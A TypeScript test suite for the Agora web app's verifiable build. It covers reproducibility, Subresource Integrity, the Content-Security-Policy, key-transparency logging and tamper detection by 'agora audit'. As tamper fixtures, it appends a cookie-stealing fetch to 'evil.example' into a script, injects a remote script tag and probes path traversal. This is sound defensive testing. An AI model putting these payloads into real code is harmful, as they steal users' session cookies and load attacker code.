/** The web app's checkable build, end to end: the build is reproducible and carries Subresource
 * Integrity and its manifest; the relay serves exactly that build with a strict Content-Security-
 * Policy, logs it in the key-transparency log before serving it, refuses a build that does not
 * match its manifest; `agora audit` finds a served file that differs from the logged build and a
 * served build that was never logged. */
import { createHash } from 'node:crypto';
import { spawn } from 'node:child_process';
import { cp, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { gunzipSync } from 'node:zlib';
import { startRelay, type RunningRelay } from '@agora/server';
import { AgoraClient } from '@agora/client-sdk';
import { nodeDeps } from '@agora/client-sdk/node';
import { decodeEntry } from '@agora/protocol/kt';
import { makeManifest, parseManifest, webBuildHash, manifestFiles, type WebBuildManifest } from '@agora/protocol/kt/web-build';
import { chromium, type Browser } from 'playwright-core';
import { existsSync } from 'node:fs';
import { PASSPHRASE, ROOT, runCli, tempDir } from './helpers.js';

const sha256 = (b: Uint8Array) => createHash('sha256').update(b).digest();

async function listFiles(dir: string, base = dir): Promise<string[]> {
  const out: string[] = [];
  for (const e of await readdir(dir, { withFileTypes: true })) {
    const full = path.join(dir, e.name);
    if (e.isDirectory()) out.push(...(await listFiles(full, base)));
    else out.push(path.relative(base, full).split(path.sep).join('/'));
  }
  return out.sort();
}

function viteBuild(outDir: string): Promise<void> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [path.join(ROOT, 'node_modules/vite/bin/vite.js'), 'build', '--outDir', outDir, '--emptyOutDir', '--logLevel', 'error'], {
      cwd: path.join(ROOT, 'web-client'),
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let err = '';
    child.stderr.on('data', (d) => (err += d));
    child.on('error', reject);
    child.on('close', (code) => (code === 0 ? resolve() : reject(new Error(`vite build failed: ${err}`))));
  });
}

async function readManifest(dir: string): Promise<WebBuildManifest> {
  return parseManifest(await readFile(path.join(dir, 'build-manifest.json'), 'utf8'));
}

/** Rewrites a build's manifest after its files changed: another valid build. */
async function remanifest(dir: string): Promise<WebBuildManifest> {
  const files = (await listFiles(dir)).filter((f) => f !== 'build-manifest.json');
  const manifest = makeManifest(await Promise.all(files.map(async (p) => ({ path: p, sha256: sha256(await readFile(path.join(dir, p))) }))));
  await writeFile(path.join(dir, 'build-manifest.json'), JSON.stringify(manifest, null, 2));
  return manifest;
}

/** A copy of build A with a comment added to its page and a manifest that matches: another valid
 * build (its `dir`), never logged by itself. */
async function anotherBuild(name: string): Promise<{ dir: string; manifest: WebBuildManifest }> {
  const dir = path.join(work, name);
  await cp(buildA, dir, { recursive: true });
  await writeFile(path.join(dir, 'index.html'), (await readFile(path.join(dir, 'index.html'), 'utf8')).replace('</body>', `<!-- ${name} build --></body>`));
  return { dir, manifest: await remanifest(dir) };
}

/** Sends GET/HEAD with a raw path (no URL normalisation by a client library). */
function rawGet(url: string, rawPath: string, headers: Record<string, string> = {}, method = 'GET'): Promise<{ status: number; headers: http.IncomingHttpHeaders; body: Buffer }> {
  const u = new URL(url);
  return new Promise((resolve, reject) => {
    const req = http.request({ host: u.hostname, port: u.port, path: rawPath, method, headers }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks) }));
    });
    req.on('error', reject);
    req.end();
  });
}

/** A relay in front of the relay that changes what it passes on: `tamper(path, body)` may return
 * other bytes for a path. */
async function tamperingProxy(target: string, tamper: (p: string, body: Buffer) => Buffer | undefined): Promise<{ url: string; close(): Promise<void> }> {
  const t = new URL(target);
  const server = http.createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const headers = { ...req.headers, host: t.host };
      delete headers['accept-encoding'];
      const up = http.request({ host: t.hostname, port: t.port, path: req.url, method: req.method, headers }, (upRes) => {
        const body: Buffer[] = [];
        upRes.on('data', (c: Buffer) => body.push(c));
        upRes.on('end', () => {
          const original = Buffer.concat(body);
          const changed = tamper(new URL(req.url ?? '/', 'http://x').pathname, original) ?? original;
          const out = { ...upRes.headers, 'content-length': String(changed.length) };
          delete out['transfer-encoding'];
          res.writeHead(upRes.statusCode ?? 502, out);
          res.end(changed);
        });
      });
      up.on('error', () => res.destroy());
      up.end(Buffer.concat(chunks));
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, close: () => new Promise((r) => server.close(() => r())) };
}

let work: string;
let buildA: string;

beforeAll(async () => {
  work = await mkdtemp(path.join(os.tmpdir(), 'agora-web-build-'));
  buildA = path.join(work, 'a');
  await viteBuild(buildA);
}, 120_000);
afterAll(async () => {
  await rm(work, { recursive: true, force: true });
});

describe('the build', () => {
  test('is reproducible: two builds from the same sources are byte for byte the same', async () => {
    const buildB = path.join(work, 'b');
    await viteBuild(buildB);
    const a = await listFiles(buildA);
    expect(await listFiles(buildB)).toEqual(a);
    for (const f of a) expect(sha256(await readFile(path.join(buildB, f))).toString('hex')).toBe(sha256(await readFile(path.join(buildA, f))).toString('hex'));
  }, 120_000);

  test('lists every file with its SHA-256 in build-manifest.json, and the build hash is that of its sha256sum text', async () => {
    const manifest = await readManifest(buildA);
    const files = (await listFiles(buildA)).filter((f) => f !== 'build-manifest.json');
    expect(Object.keys(manifest.files).sort()).toEqual(files);
    for (const f of files) expect(manifest.files[f]).toBe(sha256(await readFile(path.join(buildA, f))).toString('hex'));
    const sha256sum = files.map((f) => `${manifest.files[f]}  ${f}\n`).join('');
    expect(manifest.buildHash).toBe(sha256(Buffer.from(sha256sum)).toString('hex'));
    expect(files).toEqual(expect.arrayContaining(['index.html', 'sw.js', 'manifest.webmanifest', 'icons/icon-192.png', 'icons/icon-512.png', 'icons/icon-maskable-512.png']));
  });

  test('index.html loads its scripts and styles with Subresource Integrity, lazy chunks through the import map, and has no other inline script', async () => {
    const html = await readFile(path.join(buildA, 'index.html'), 'utf8');
    const sri = async (p: string) => `sha384-${createHash('sha384').update(await readFile(path.join(buildA, p))).digest('base64')}`;
    const tags = [...html.matchAll(/<(script|link)\b[^>]*\b(?:src|href)="\/(assets\/[^"]+)"[^>]*>/g)];
    expect(tags.length).toBeGreaterThanOrEqual(1);
    for (const [tag, , file] of tags) expect(tag).toContain(`integrity="${await sri(file)}"`);
    const inline = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)].filter((m) => !/\bsrc=/.test(m[1]));
    expect(inline.map((m) => m[1].trim())).toEqual(['type="importmap"']);
    const importMap = JSON.parse(inline[0][2]) as { integrity: Record<string, string> };
    const scripts = (await listFiles(buildA)).filter((f) => f.endsWith('.js') && f !== 'sw.js');
    expect(Object.keys(importMap.integrity).sort()).toEqual(scripts.map((f) => `/${f}`).sort());
    for (const f of scripts) expect(importMap.integrity[`/${f}`]).toBe(await sri(f));
    expect(html).not.toMatch(/<style\b|\sstyle="/);
    // The page paints its static first screen without waiting for the entry script.
    expect([...html.matchAll(/<script type="module"[^>]*>/g)].map((m) => m[0])).toEqual([expect.not.stringContaining('blocking=')]);
  });

  test('the first screens: copies of index.html that differ only in the painted screen and its language, with inert forms, and the service worker answers a start with nothing else', async () => {
    const files = await listFiles(buildA);
    const firstScreens = ['index.html', ...files.filter((f) => f.startsWith('first/'))].sort();
    expect(firstScreens).toEqual(['first/pin-de.html', 'first/pin-en.html', 'first/starting-de.html', 'first/starting-en.html', 'first/welcome-en.html', 'index.html']);
    const shellOf = (html: string) => html.replace(/<html lang="(de|en)">/, '<html>').replace(/<div id="app" data-first-screen="\w+">[\s\S]*<\/div>\s*<noscript>/, '<div id="app"></div><noscript>');
    const index = await readFile(path.join(buildA, 'index.html'), 'utf8');
    const marks: Record<string, string> = { welcome: 'id="invite-code"', pin: 'id="unlock-pin"', starting: 'class="spinner"' };
    for (const f of firstScreens) {
      const html = await readFile(path.join(buildA, f), 'utf8');
      expect([f, shellOf(html)]).toEqual([f, shellOf(index)]);
      const [, screen, lang] = /^first\/(\w+)-(\w+)\.html$/.exec(f) ?? [f, 'welcome', 'de'];
      expect(html).toContain(`<html lang="${lang}">`);
      expect(html).toContain(`<div id="app" data-first-screen="${screen}">`);
      expect(html).toContain(marks[screen]);
      // Enter in the static form before the app runs submits nowhere (no PIN in a URL).
      const forms = [...html.matchAll(/<form\b[^>]*>/g)].map((m) => m[0]);
      for (const form of forms) expect(form).toContain('method="dialog"');
      expect(forms.length).toBe(screen === 'starting' ? 0 : 1);
      for (const button of html.matchAll(/<button\b[^>]*>/g)) expect(button[0]).toMatch(/^<button disabled\b/);
    }
    expect(await readFile(path.join(buildA, 'first/pin-en.html'), 'utf8')).toContain('PIN or password');
    const sw = await readFile(path.join(buildA, 'sw.js'), 'utf8');
    const written = JSON.parse(/const FIRST_SCREEN = (\{.*\});/.exec(sw)?.[1] ?? 'null') as { cache: string; key: string; files: string[] };
    expect(written).toEqual({ cache: 'agora-first-screen', key: '/first-screen', files: firstScreens.map((f) => `/${f}`) });
  });

  test("the service worker's version is the hash of every other file of the build", async () => {
    const manifest = await readManifest(buildA);
    const sw = await readFile(path.join(buildA, 'sw.js'), 'utf8');
    const version = /const SHELL_VERSION = '([0-9a-f]{64})'/.exec(sw)?.[1];
    expect(version).toBe(webBuildHash(manifestFiles(manifest).filter((f) => f.path !== 'sw.js')));
  });
});

describe('the relay serving the build', () => {
  let dataDir: string;
  let relay: RunningRelay;
  let manifest: WebBuildManifest;

  beforeAll(async () => {
    dataDir = await tempDir('web-relay');
    manifest = await readManifest(buildA);
    relay = await startRelay({ port: 0, host: '127.0.0.1', dataDir, quiet: true, webDir: buildA });
  }, 60_000);
  afterAll(async () => {
    await relay?.close();
    await rm(dataDir, { recursive: true, force: true });
  });

  test('serves index.html at / and for app routes, with a strict Content-Security-Policy and no caching', async () => {
    const index = await readFile(path.join(buildA, 'index.html'));
    for (const p of ['/', '/gruppen/g_123', '/einstellungen']) {
      const res = await rawGet(relay.url, p);
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toBe('text/html; charset=utf-8');
      expect(res.body.equals(index)).toBe(true);
      expect(res.headers['cache-control']).toBe('no-cache');
    }
    const res = await rawGet(relay.url, '/');
    const csp = String(res.headers['content-security-policy']);
    const importMap = /<script type="importmap">([\s\S]*?)<\/script>/.exec(index.toString('utf8'))![1];
    const importMapHash = `'sha256-${createHash('sha256').update(importMap).digest('base64')}'`;
    expect(csp.split('; ')).toEqual(expect.arrayContaining([
      "default-src 'self'",
      `script-src 'self' 'wasm-unsafe-eval' ${importMapHash}`,
      "style-src 'self'",
      `connect-src 'self' ws://${new URL(relay.url).host} wss://${new URL(relay.url).host}`,
      // the key-derivation worker runs from checked bytes (a blob: URL); scripts stay 'self' only
      "worker-src 'self' blob:",
      "frame-ancestors 'none'",
      "base-uri 'none'",
      "object-src 'none'",
    ]));
    expect(csp).not.toContain('unsafe-inline');
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['referrer-policy']).toBe('no-referrer');
  });

  test('serves hashed assets for good, compressed when asked, and every file byte for byte', async () => {
    const js = Object.keys(manifest.files).find((f) => f.startsWith('assets/') && f.endsWith('.js'))!;
    const plain = await rawGet(relay.url, `/${js}`);
    expect(plain.status).toBe(200);
    expect(plain.headers['content-type']).toBe('text/javascript; charset=utf-8');
    expect(plain.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    const gz = await rawGet(relay.url, `/${js}`, { 'accept-encoding': 'gzip, br' });
    const body = gz.headers['content-encoding'] === 'gzip' ? gunzipSync(gz.body) : gz.body;
    expect(body.equals(plain.body)).toBe(true);
    const again = await rawGet(relay.url, `/${js}`, { 'if-none-match': String(plain.headers.etag) });
    expect(again.status).toBe(304);
    for (const [p, hex] of Object.entries(manifest.files)) {
      const r = await rawGet(relay.url, `/${p}`);
      expect([p, r.status, sha256(r.body).toString('hex')]).toEqual([p, 200, hex]);
    }
    expect((await rawGet(relay.url, '/manifest.webmanifest')).headers['content-type']).toBe('application/manifest+json; charset=utf-8');
    expect((await rawGet(relay.url, '/sw.js')).headers['cache-control']).toBe('no-cache');
    expect((await rawGet(relay.url, '/', {}, 'HEAD')).status).toBe(200);
  });

  test('answers paths outside the build with JSON 404, never with a file from elsewhere, and leaves /v1 to the API', async () => {
    for (const p of ['/assets/missing.js', '/../package.json', '/..%2f..%2fpackage.json', '/%2e%2e/%2e%2e/package.json', '/assets/..%2f..%2fpackage.json', '/.env', '/v1/no-such-route']) {
      const r = await rawGet(relay.url, p);
      expect([p, r.status]).toEqual([p, 404]);
      expect(JSON.parse(r.body.toString('utf8')).error.code).toBe('not_found');
    }
    expect((await rawGet(relay.url, '/%E0%A4%A')).status).toBe(400);
    const api = await rawGet(relay.url, '/v1/kt/policy');
    expect(api.status).toBe(200);
    expect(api.headers['content-security-policy']).toBeUndefined();
  });

  test('logs the build (after the first administrator, who must be entry 0), once: a restart with the same build appends nothing', async () => {
    expect(relay.web?.buildHash).toBe(manifest.buildHash);
    // An empty log's first entry is the first administrator's; the build follows the first change.
    expect(relay.web?.logIndex).toBeUndefined();
    expect(await relay.store.ktSize()).toBe(0);
    const profileDir = await tempDir('web-relay-admin');
    try {
      await AgoraClient.register(nodeDeps({ profileDir, passphrase: PASSPHRASE, addGraceMs: 0 }), { server: relay.url, invite: relay.adminInvite!, name: 'Admin' });
    } finally {
      await rm(profileDir, { recursive: true, force: true });
    }
    const deadline = Date.now() + 10_000;
    let entries: Uint8Array[] = [];
    while (Date.now() < deadline) {
      entries = await relay.store.readKtEntries(0, await relay.store.ktSize());
      if (entries.some((b) => decodeEntry(b).type === 'web-build')) break;
      await new Promise((r) => setTimeout(r, 50));
    }
    expect(decodeEntry(entries[0]).type).toBe('user-created');
    const index = entries.findIndex((b) => decodeEntry(b).type === 'web-build');
    const e = decodeEntry(entries[index]);
    if (e.type !== 'web-build') throw new Error('no web-build entry');
    expect(decodeEntry(entries[index + 1]).type).toBe('snapshot');
    expect(e.files.map((f) => [f.path, Buffer.from(f.sha256).toString('hex')])).toEqual(Object.entries(manifest.files).sort(([a], [b]) => (a < b ? -1 : 1)));
    expect(webBuildHash(e.files)).toBe(manifest.buildHash);
    const size = await relay.store.ktSize();
    await relay.close();
    relay = await startRelay({ port: 0, host: '127.0.0.1', dataDir, quiet: true, webDir: buildA });
    expect(relay.web?.logIndex).toBe(index);
    expect(await relay.store.ktSize()).toBe(size);
  }, 60_000);

  test('refuses to serve a build whose files do not match its manifest, and logs nothing for it', async () => {
    const broken = path.join(work, 'broken');
    await cp(buildA, broken, { recursive: true });
    const js = Object.keys(manifest.files).find((f) => f.startsWith('assets/') && f.endsWith('.js'))!;
    await writeFile(path.join(broken, js), `${await readFile(path.join(broken, js), 'utf8')}\n;fetch('https://evil.example/'+document.cookie)`);
    const size = await relay.store.ktSize();
    await relay.close();
    const lines: string[] = [];
    relay = await startRelay({ port: 0, host: '127.0.0.1', dataDir, quiet: true, webDir: broken, log: (l) => lines.push(l) });
    expect(relay.web).toBeUndefined();
    expect(lines.join('\n')).toContain(`${js} in ${broken} does not match build-manifest.json`);
    const r = await rawGet(relay.url, '/');
    expect(r.status).toBe(404);
    expect(JSON.parse(r.body.toString('utf8')).error.message).toMatch(/web app is not available/);
    expect((await rawGet(relay.url, '/v1/kt/policy')).status).toBe(200);
    expect(await relay.store.ktSize()).toBe(size);
    await relay.close();
    relay = await startRelay({ port: 0, host: '127.0.0.1', dataDir, quiet: true, webDir: buildA });
  }, 60_000);
});

describe('agora audit and the served web app', () => {
  let dataDir: string;
  let relay: RunningRelay;
  let keyFile: string;
  let policyFile: string;
  let manifest: WebBuildManifest;
  const closers: (() => Promise<void>)[] = [];

  const auditVia = async (server: string) => {
    const r = await runCli(['--json', 'audit', '--server', server, '--key', keyFile, '--policy', policyFile]);
    return { code: r.code, stderr: r.stderr, report: JSON.parse(r.stdout) as { violations: { code: string; message: string }[]; webApp: { servedBuildHash?: string; matching: number; latest?: { buildHash: string } } } };
  };

  beforeAll(async () => {
    dataDir = await tempDir('web-audit');
    manifest = await readManifest(buildA);
    relay = await startRelay({ port: 0, host: '127.0.0.1', dataDir, quiet: true, webDir: buildA });
    const profileDir = await tempDir('web-audit-admin');
    closers.push(() => rm(profileDir, { recursive: true, force: true }));
    const admin = await AgoraClient.register(nodeDeps({ profileDir, passphrase: PASSPHRASE, addGraceMs: 0 }), { server: relay.url, invite: relay.adminInvite!, name: 'Admin' });
    keyFile = path.join(profileDir, 'auditor.json');
    const keygen = await runCli(['audit', 'keygen', keyFile]);
    expect(keygen.code).toBe(0);
    const { origin, vkey } = (await (await fetch(`${relay.url}/v1/kt/policy`)).json()) as { origin: string; vkey: string };
    const policy = { log: { origin, vkey }, witnesses: [], auditors: [JSON.parse(keygen.stdout)], quorum: 0, maxCheckpointAgeSeconds: 86400 };
    policyFile = path.join(profileDir, 'policy.json');
    await writeFile(policyFile, JSON.stringify(policy));
    await admin.publishPolicy(policy);
  }, 90_000);
  afterAll(async () => {
    await relay?.close();
    for (const c of closers) await c();
    await rm(dataDir, { recursive: true, force: true });
  });

  test('finds nothing wrong with the build the relay logged and serves', async () => {
    const { code, report } = await auditVia(relay.url);
    expect(report.violations).toEqual([]);
    expect(code).toBe(0);
    expect(report.webApp.servedBuildHash).toBe(manifest.buildHash);
    expect(report.webApp.latest?.buildHash).toBe(manifest.buildHash);
    expect(report.webApp.matching).toBe(Object.keys(manifest.files).length + 1);
    const text = await runCli(['audit', '--server', relay.url, '--key', keyFile, '--policy', policyFile]);
    expect(text.stdout).toContain(`Web app:\n  latest logged build ${manifest.buildHash}`);
    expect(text.stdout).toContain(`  served build ${manifest.buildHash}: ${Object.keys(manifest.files).length + 1} file(s) match the log\n`);
  }, 60_000);

  test('reports a served file that differs from the logged build', async () => {
    const js = Object.keys(manifest.files).filter((f) => f.startsWith('assets/') && f.endsWith('.js')).at(-1)!;
    const proxy = await tamperingProxy(relay.url, (p, body) => (p === `/${js}` ? Buffer.concat([body, Buffer.from('\n;steal()')]) : undefined));
    closers.push(proxy.close);
    const { code, report } = await auditVia(proxy.url);
    expect(code).toBe(3);
    expect(report.violations.map((v) => v.code)).toEqual(['web_file_mismatch']);
    expect(report.violations[0].message).toContain(js);
  }, 60_000);

  test('reports a tampered page at the site root', async () => {
    const proxy = await tamperingProxy(relay.url, (p, body) => (p === '/' ? Buffer.from(body.toString('utf8').replace('</head>', '<script src="https://evil.example/x.js"></script></head>')) : undefined));
    closers.push(proxy.close);
    const { code, report } = await auditVia(proxy.url);
    expect(code).toBe(3);
    expect(report.violations).toEqual([expect.objectContaining({ code: 'web_file_mismatch', message: expect.stringContaining('/: the served bytes') })]);
  }, 60_000);

  test('reports a build that is served but was never logged', async () => {
    const { dir: other, manifest: unlogged } = await anotherBuild('unlogged');
    const files = new Map([['/build-manifest.json', await readFile(path.join(other, 'build-manifest.json'))], ['/', await readFile(path.join(other, 'index.html'))], ['/index.html', await readFile(path.join(other, 'index.html'))]]);
    const proxy = await tamperingProxy(relay.url, (p) => files.get(p));
    closers.push(proxy.close);
    const { code, report } = await auditVia(proxy.url);
    expect(code).toBe(3);
    expect(report.webApp.servedBuildHash).toBe(unlogged.buildHash);
    expect(report.violations.map((v) => v.code).sort()).toEqual(['web_build_not_logged', 'web_file_mismatch', 'web_file_mismatch']);
  }, 60_000);

  test('a new build is logged when the relay starts serving it, and then audits clean', async () => {
    const { dir: next, manifest: nextManifest } = await anotherBuild('next');
    const before = await relay.store.ktSize();
    await relay.close();
    relay = await startRelay({ port: relay.port, host: '127.0.0.1', dataDir, quiet: true, webDir: next });
    expect(relay.web?.logIndex).toBe(before);
    // the entry and the snapshot that follows every change
    expect(await relay.store.ktSize()).toBe(before + 2);
    const { code, report } = await auditVia(relay.url);
    expect(report.violations).toEqual([]);
    expect(code).toBe(0);
    expect(report.webApp.servedBuildHash).toBe(nextManifest.buildHash);
  }, 90_000);
});

const CHROMIUM = '/usr/bin/chromium';
const inChromium = existsSync(CHROMIUM) ? describe : describe.skip;

inChromium('the served app in Chromium', () => {
  let dataDir: string;
  let relay: RunningRelay;
  let browser: Browser;
  let sodiumChunk: string;

  beforeAll(async () => {
    dataDir = await tempDir('web-chromium');
    relay = await startRelay({ port: 0, host: '127.0.0.1', dataDir, quiet: true, webDir: buildA });
    browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] });
    sodiumChunk = Object.keys((await readManifest(buildA)).files).find((f) => /libsodium/.test(f))!;
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
    await relay?.close();
    await rm(dataDir, { recursive: true, force: true });
  });

  /** Imports the libsodium chunk in the page as the app's lazy loading does, and waits for its WebAssembly. */
  const loadSodium = async (chunk: string) => {
    try {
      const m = (await import(/* @vite-ignore */ `/${chunk}`)) as Record<string, unknown>;
      for (const v of Object.values(m)) {
        const s = (v as { default?: unknown })?.default ?? v;
        if (s && typeof s === 'object' && 'ready' in s) {
          await (s as { ready: Promise<void> }).ready;
          return 'ready';
        }
      }
      return 'no sodium export';
    } catch (e) {
      return `failed: ${String(e)}`;
    }
  };

  test("runs under its policy: no violation, libsodium's WebAssembly compiles, an injected inline script does not run", async () => {
    const context = await browser.newContext({ serviceWorkers: 'block' });
    const page = await context.newPage();
    const problems: string[] = [];
    page.on('console', (m) => { if (m.type() === 'error') problems.push(m.text()); });
    page.on('pageerror', (e) => problems.push(e.message));
    await page.goto(`${relay.url}/`);
    expect(await page.evaluate(loadSodium, sodiumChunk)).toBe('ready');
    // the page itself and its lazily loaded code break no rule of the policy
    expect(problems.filter((p) => /Content Security Policy|integrity/i.test(p))).toEqual([]);
    const injected = await page.evaluate(() => new Promise<string>((resolve) => {
      document.addEventListener('securitypolicyviolation', (e) => resolve(`blocked: ${e.violatedDirective}`), { once: true });
      const s = document.createElement('script');
      s.textContent = 'window.injected = true';
      document.head.append(s);
      setTimeout(() => resolve((window as unknown as { injected?: boolean }).injected ? 'ran' : 'silent'), 1000);
    }));
    expect(injected).toBe('blocked: script-src-elem');
    await context.close();
  }, 60_000);

  test("libsodium needs 'wasm-unsafe-eval': without it the WebAssembly is refused", async () => {
    const context = await browser.newContext({ serviceWorkers: 'block' });
    await context.route('**/*', async (route) => {
      const res = await route.fetch();
      const headers = res.headers();
      headers['content-security-policy'] = headers['content-security-policy']?.replace(" 'wasm-unsafe-eval'", '');
      await route.fulfill({ response: res, headers });
    });
    const page = await context.newPage();
    await page.goto(`${relay.url}/`);
    expect(await page.evaluate(loadSodium, sodiumChunk)).toMatch(/failed: .*Content Security Policy/);
    // The app goes on preloading its chunks: a handler still waiting for one when the context closes
    // would otherwise fail into whichever test runs next.
    await context.unrouteAll({ behavior: 'ignoreErrors' });
    await context.close();
  }, 60_000);

  test('a lazily loaded chunk whose bytes differ from the build is refused (import map integrity)', async () => {
    const context = await browser.newContext({ serviceWorkers: 'block' });
    await context.route(`**/${sodiumChunk}`, async (route) => {
      const res = await route.fetch();
      await route.fulfill({ response: res, body: `${await res.text()}\n;globalThis.tampered = true;` });
    });
    const page = await context.newPage();
    await page.goto(`${relay.url}/`);
    expect(await page.evaluate(loadSodium, sodiumChunk)).toMatch(/^failed: TypeError: Failed to fetch dynamically imported module/);
    expect(await page.evaluate(() => (globalThis as { tampered?: boolean }).tampered)).toBeUndefined();
    await context.unrouteAll({ behavior: 'ignoreErrors' });
    await context.close();
  }, 60_000);

  test('the service worker keeps the verified shell: offline, the app and its deep links load under the same policy, the API is never cached', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(`${relay.url}/`);
    // registered here as registerServiceWorker() does, so the check does not depend on the shell's code
    await page.evaluate(async () => {
      await navigator.serviceWorker.register('/sw.js', { scope: '/', updateViaCache: 'none' });
      await navigator.serviceWorker.ready;
    });
    const manifest = await readManifest(buildA);
    const cached = await page.evaluate(async () => {
      const names = await caches.keys();
      const cache = await caches.open(names.find((n) => n.startsWith('agora-shell-'))!);
      return (await cache.keys()).map((r) => new URL(r.url).pathname).sort();
    });
    expect(cached).toEqual([...Object.keys(manifest.files).map((f) => `/${f}`), '/build-manifest.json'].sort());
    await page.reload();
    await context.setOffline(true);
    for (const p of ['/', '/gruppen/g_1']) {
      const res = await page.goto(`${relay.url}${p}`);
      expect(res?.status()).toBe(200);
      expect(res?.headers()['content-security-policy']).toContain("script-src 'self' 'wasm-unsafe-eval' 'sha256-");
      expect(await page.title()).toBe('Agora');
    }
    const api = await page.evaluate(async () => fetch('/v1/kt/policy').then((r) => `status ${r.status}`, () => 'network error'));
    expect(api).toBe('network error');
    const hash = await page.evaluate(async () => {
      const m = (await (await fetch('/build-manifest.json')).json()) as { buildHash: string };
      return m.buildHash;
    });
    expect(hash).toBe(manifest.buildHash);
    await context.close();
  }, 90_000);
});
